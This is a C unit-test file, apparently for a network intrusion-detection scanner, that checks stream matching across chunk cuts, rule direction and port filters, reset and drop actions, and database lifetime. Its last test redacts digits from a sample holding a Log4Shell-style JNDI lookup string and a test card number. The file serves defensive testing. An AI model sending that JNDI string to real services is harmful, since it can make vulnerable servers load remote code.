/* SPDX-License-Identifier: BSD-3-Clause */
/* Streams: matches over any cut, what stops, what is counted, databases that overlap in time. */
#include "scan_test.h"

Suite *scan_stream_suite(void);

struct found {
	unsigned int n, more;
	uint32_t id[16];
	uint64_t end[16];
	bool stopped;
};

static void feed(struct weir_scan_stream *s, const char *bytes, size_t len, struct found *f)
{
	struct weir_scan_match m[16];
	unsigned int more;
	int n = weir_scan_feed(s, (struct weir_bytes){(const uint8_t *)bytes, len}, m, 16 - f->n,
			       &more, &f->stopped);

	ck_assert_int_ge(n, 0);
	f->more += more;
	for (int i = 0; i < n; i++) {
		f->id[f->n] = weir_scan_rule(s->db, m[i].rule)->id;
		f->end[f->n++] = m[i].end;
	}
}

static struct weir_scan_stream open_stream(struct weir_scan_db *db, uint8_t direction,
					   uint16_t port)
{
	struct weir_scan_stream s;

	ck_assert_int_eq(weir_scan_open(&s, db, 0, direction, port), 0);
	return s;
}

START_TEST(a_match_is_found_over_any_cut)
{
	static const char text[] = "xx needle yy NEEDLE zz";
	struct weir_scan_db *db = db_of("1:/needle/\n2:/NEEDLE z/\n", NULL);
	size_t len = strlen(text);

	for (size_t a = 0; a <= len; a++)
		for (size_t b = a; b <= len; b++) {
			struct weir_scan_stream s = open_stream(db, WEIR_SCAN_TO_SERVER, 80);
			struct found f = {0};

			feed(&s, text, a, &f);
			feed(&s, text + a, b - a, &f);
			feed(&s, text + b, len - b, &f);
			ck_assert_uint_eq(f.n, 2);
			ck_assert_uint_eq(f.id[0], 1);
			ck_assert_uint_eq(f.end[0], 9);
			ck_assert_uint_eq(f.id[1], 2);
			ck_assert_uint_eq(f.end[1], 21);
			weir_scan_close(&s);
		}
	put(db);
}
END_TEST

START_TEST(a_stream_that_is_used_again_remembers_nothing)
{
	struct weir_scan_db *db = db_of("1:/needle/\n", NULL);
	struct weir_scan_stream s = open_stream(db, WEIR_SCAN_TO_SERVER, 80);
	struct found f = {0};

	feed(&s, "nee", 3, &f);
	weir_scan_close(&s);
	s = open_stream(db, WEIR_SCAN_TO_SERVER, 80);
	feed(&s, "dle needle", 10, &f);
	ck_assert_uint_eq(f.n, 1);
	ck_assert_uint_eq(f.end[0], 10);
	weir_scan_close(&s);
	put(db);
}
END_TEST

START_TEST(a_pattern_is_told_once_a_stream)
{
	struct weir_scan_db *db = db_of("1:/a/\n", NULL);
	struct weir_scan_stream s = open_stream(db, WEIR_SCAN_TO_SERVER, 80);
	struct found f = {0};

	feed(&s, "aaaa", 4, &f);
	feed(&s, "aaaa", 4, &f);
	ck_assert_uint_eq(f.n, 1);
	weir_scan_close(&s);
	put(db);
}
END_TEST

START_TEST(direction_and_port_are_those_of_the_rule)
{
	struct weir_scan_db *db =
		db_of("1:/a/\n2:/a/i\n3:/a/s\n", "patterns:\n- { id: 1, direction: to_client }\n"
						 "- { id: 2, ports: [ 80 ] }\n");
	static const struct {
		uint8_t direction;
		uint16_t port;
		unsigned int ids;
	} rows[] = {
		{WEIR_SCAN_TO_SERVER, 80, 1u << 2 | 1u << 3},
		{WEIR_SCAN_TO_SERVER, 81, 1u << 3},
		{WEIR_SCAN_TO_CLIENT, 80, 1u << 1 | 1u << 2 | 1u << 3},
		{WEIR_SCAN_TO_CLIENT, 81, 1u << 1 | 1u << 3},
	};

	for (size_t i = 0; i < WEIR_ARRAY_LEN(rows); i++) {
		struct weir_scan_stream s = open_stream(db, rows[i].direction, rows[i].port);
		struct found f = {0};
		unsigned int ids = 0;

		feed(&s, "a", 1, &f);
		for (unsigned int k = 0; k < f.n; k++)
			ids |= 1u << f.id[k];
		ck_assert_uint_eq(ids, rows[i].ids);
		weir_scan_close(&s);
	}
	put(db);
}
END_TEST

START_TEST(a_rule_that_stops_is_the_last_that_is_told)
{
	struct weir_scan_db *db =
		db_of("1:/ab/\n2:/bc/\n3:/cd/\n", "patterns: [ { id: 2, action: reset } ]\n");
	struct weir_scan_stream s = open_stream(db, WEIR_SCAN_TO_SERVER, 80);
	struct found f = {0};

	feed(&s, "abcd", 4, &f);
	ck_assert(f.stopped);
	ck_assert_uint_eq(f.n, 2);
	ck_assert_uint_eq(f.id[1], 2);
	ck_assert_uint_eq(f.end[1], 3);
	weir_scan_close(&s);
	put(db);
}
END_TEST

START_TEST(what_stops_is_told_even_when_there_is_no_room)
{
	struct weir_scan_db *db =
		db_of("1:/a/\n2:/b/\n3:/c/\n", "patterns: [ { id: 3, action: drop } ]\n");
	struct weir_scan_stream s = open_stream(db, WEIR_SCAN_TO_SERVER, 80);
	struct weir_scan_match m[1];
	unsigned int more;
	bool stop;

	ck_assert_int_eq(weir_scan_feed(&s, (struct weir_bytes){(const uint8_t *)"abc", 3}, m, 1,
					&more, &stop),
			 1);
	ck_assert(stop);
	ck_assert_uint_eq(weir_scan_rule(db, m[0].rule)->id, 3);
	ck_assert_uint_eq(more, 1);
	weir_scan_close(&s);
	put(db);
}
END_TEST

START_TEST(a_worker_has_no_more_streams_than_were_made)
{
	struct weir_scan_stream s[3];
	struct weir_scan_db *db;

	remove_files();
	write_file("a.hs", "1:/a/\n");
	db = load_said(&(struct load){.streams = 2, .workers = 2}, "");
	ck_assert_int_eq(weir_scan_open(&s[0], db, 0, WEIR_SCAN_TO_SERVER, 80), 0);
	ck_assert_int_eq(weir_scan_open(&s[1], db, 0, WEIR_SCAN_TO_SERVER, 80), 0);
	ck_assert_int_eq(weir_scan_open(&s[2], db, 0, WEIR_SCAN_TO_SERVER, 80), -WEIR_ENOMEM);
	ck_assert_int_eq(weir_scan_open(&s[2], db, 1, WEIR_SCAN_TO_SERVER, 80), 0);
	for (unsigned int i = 0; i < 3; i++)
		weir_scan_close(&s[i]);
	put(db);
}
END_TEST

START_TEST(a_database_stays_while_a_stream_is_open_on_it)
{
	struct weir_scan_db *old = db_of("1:/old/\n", NULL), *new = db_of("1:/new/\n", NULL);
	struct weir_scan_stream a = open_stream(old, WEIR_SCAN_TO_SERVER, 80);
	struct weir_scan_stream b = open_stream(new, WEIR_SCAN_TO_SERVER, 80);
	struct found f = {0}, g = {0};

	feed(&a, "ol", 2, &f);
	ck_assert(!weir_scan_db_put(old));
	feed(&b, "old new", 7, &g);
	feed(&a, "d new", 5, &f);
	ck_assert_uint_eq(f.n, 1);
	ck_assert_uint_eq(f.end[0], 3);
	ck_assert_uint_eq(g.n, 1);
	ck_assert_uint_eq(g.end[0], 7);
	ck_assert(!weir_scan_db_put_again(old));
	weir_scan_close(&a);
	ck_assert(weir_scan_db_put_again(old));
	weir_scan_close(&b);
	put(new);
}
END_TEST

START_TEST(a_context_shows_no_digits)
{
	static const char bytes[] =
		"card 4111 1111 1111 1111 ${jndi:ldap://10.0.0.1/a} and more text";
	char text[WEIR_SCAN_CONTEXT];

	weir_scan_context((struct weir_bytes){(const uint8_t *)bytes, strlen(bytes)}, 37, text);
	ck_assert_str_eq(text, "card 0000 0000 0000 0000 ${jndi:ldap://00.0.0");
	weir_scan_context((struct weir_bytes){(const uint8_t *)"\x01\xff", 2}, 2, text);
	ck_assert_str_eq(text, "..");
	weir_scan_context((struct weir_bytes){(const uint8_t *)bytes, 0}, 0, text);
	ck_assert_str_eq(text, "");
}
END_TEST

Suite *scan_stream_suite(void)
{
	return WEIR_SUITE("scan stream", a_match_is_found_over_any_cut,
			  a_stream_that_is_used_again_remembers_nothing,
			  a_pattern_is_told_once_a_stream, direction_and_port_are_those_of_the_rule,
			  a_rule_that_stops_is_the_last_that_is_told,
			  what_stops_is_told_even_when_there_is_no_room,
			  a_worker_has_no_more_streams_than_were_made,
			  a_database_stays_while_a_stream_is_open_on_it, a_context_shows_no_digits);
}
